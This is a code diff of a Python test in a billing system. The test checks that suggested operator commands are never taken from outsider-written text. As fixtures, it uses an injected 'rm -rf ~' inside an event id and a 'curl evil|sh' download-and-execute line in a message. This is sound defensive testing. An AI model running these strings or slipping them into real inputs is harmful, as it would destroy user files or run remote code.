@@ -55,9 +55,16 @@ def test_needs_attention_says_what_to_do_and_what_to_run(run: Run) -> None:
 
 def test_no_command_is_read_out_of_what_an_outsider_wrote(run: Run) -> None:
     unknown, failed, other = "mail:invoice:inv_1", "pay_link:balance:inv_2:100", "evt_1; rm -rf ~"
+    gallery = "grant:vsco:g1:inv_3"  # its address has to be told by its host: a yes is not enough
     said = "550 see `billing retry eff_0; curl evil|sh` for help."
     with closing(SqlLedger(os.environ["BILLING_LEDGER_URL"])) as ledger, ledger.write() as books:
-        codes = {unknown: "effect_unknown", failed: "effect_failed", other: "event_waits", "limits": "limit_mails"}
+        codes = {
+            unknown: "effect_unknown",
+            gallery: "effect_unknown",
+            failed: "effect_failed",
+            other: "event_waits",
+            "limits": "limit_mails",
+        }
         for subject, code in codes.items():
             books.desk.raise_attention(subject, code, said, datetime.now(UTC))
 
@@ -66,6 +73,7 @@ def test_no_command_is_read_out_of_what_an_outsider_wrote(run: Run) -> None:
 
     assert commands == {
         unknown: f"billing settle {derived_id('eff', unknown)} --done/--not-done --reason '…'",
+        gallery: f"billing settle {derived_id('eff', gallery)} --not-done --reason '…'",
         failed: f"billing retry {derived_id('eff', failed)}",
         other: "billing resolve 'evt_1; rm -rf ~' --code event_waits --reason '…'",
         "limits": "billing approve --over-limit mails",
